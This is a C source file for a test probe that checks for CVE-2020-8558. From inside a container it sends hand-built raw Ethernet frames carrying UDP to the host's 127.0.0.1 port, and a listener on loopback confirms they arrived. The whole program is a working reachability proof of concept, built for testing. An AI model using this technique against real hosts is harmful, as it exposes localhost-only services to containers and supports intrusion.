/* The two ends of the localnet test (CVE-2020-8558), built static by the test with musl-gcc.
 *   localnet-probe send IFACE GW_MAC PORT
 *     From inside a container (NET_RAW, a default capability): 5 raw Ethernet frames, 100 ms apart,
 *     to GW_MAC (aa:bb:cc:dd:ee:ff) carrying a UDP datagram "localnet" from IFACE's own address to
 *     127.0.0.1:PORT. Exit 0 once sent.
 *   localnet-probe listen PORT MS
 *     UDP bound to 127.0.0.1:PORT: prints "got <text> from <addr>" and exits 0 on the first
 *     datagram; exits 1 after MS milliseconds without one. Prints "ready" once bound. */
#include <arpa/inet.h>
#include <netpacket/packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static unsigned short checksum(const void *data, size_t len) {
  const unsigned char *p = data;
  unsigned long sum = 0;
  for (size_t i = 0; i + 1 < len; i += 2) sum += (unsigned long)(p[i] << 8 | p[i + 1]);
  if (len & 1) sum += (unsigned long)(p[len - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((unsigned short)~sum);
}

static int send_frames(const char *iface, const char *mac, int port) {
  unsigned char gw[6];
  if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gw[0], &gw[1], &gw[2], &gw[3], &gw[4], &gw[5]) != 6) return 2;
  int q = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
  if (q < 0 || ioctl(q, SIOCGIFINDEX, &ifr) < 0) { perror("SIOCGIFINDEX"); return 1; }
  int index = ifr.ifr_ifindex;
  if (ioctl(q, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); return 1; }
  unsigned char own[6];
  memcpy(own, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(q, SIOCGIFADDR, &ifr) < 0) { perror("SIOCGIFADDR"); return 1; }
  struct in_addr src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  close(q);

  static const char payload[] = "localnet";
  unsigned char frame[sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct udphdr) + sizeof payload - 1];
  memset(frame, 0, sizeof frame);
  struct ether_header *eth = (struct ether_header *)frame;
  memcpy(eth->ether_dhost, gw, 6);
  memcpy(eth->ether_shost, own, 6);
  eth->ether_type = htons(ETHERTYPE_IP);
  struct iphdr *ip = (struct iphdr *)(eth + 1);
  ip->version = 4;
  ip->ihl = 5;
  ip->tot_len = htons((unsigned short)(sizeof frame - sizeof *eth));
  ip->id = htons(0x7f01);
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->saddr = src.s_addr;
  ip->daddr = htonl(INADDR_LOOPBACK);
  ip->check = checksum(ip, sizeof *ip);
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  udp->uh_sport = htons(40001);
  udp->uh_dport = htons((unsigned short)port);
  udp->uh_ulen = htons((unsigned short)(sizeof *udp + sizeof payload - 1));
  udp->uh_sum = 0; /* optional over IPv4 */
  memcpy(udp + 1, payload, sizeof payload - 1);

  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (s < 0) { perror("socket(AF_PACKET)"); return 1; }
  struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = index, .sll_halen = 6 };
  memcpy(to.sll_addr, gw, 6);
  for (int i = 0; i < 5; i++) {
    if (sendto(s, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof frame) { perror("sendto"); return 1; }
    struct timespec ts = { 0, 100 * 1000 * 1000 };
    nanosleep(&ts, NULL);
  }
  printf("sent 5 frames from %s to 127.0.0.1:%d\n", inet_ntoa(src), port);
  return 0;
}

static int listen_once(int port, int ms) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0) { perror("bind"); return 2; }
  printf("ready\n");
  fflush(stdout);
  struct pollfd p = { .fd = s, .events = POLLIN };
  if (poll(&p, 1, ms) <= 0) return 1;
  char buf[256];
  struct sockaddr_in peer;
  socklen_t len = sizeof peer;
  ssize_t n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&peer, &len);
  if (n < 0) return 1;
  buf[n] = 0;
  printf("got %s from %s\n", buf, inet_ntoa(peer.sin_addr));
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 5 && strcmp(argv[1], "send") == 0) return send_frames(argv[2], argv[3], atoi(argv[4]));
  if (argc == 4 && strcmp(argv[1], "listen") == 0) return listen_once(atoi(argv[2]), atoi(argv[3]));
  fprintf(stderr, "usage: localnet-probe send IFACE GW_MAC PORT | listen PORT MS\n");
  return 2;
}
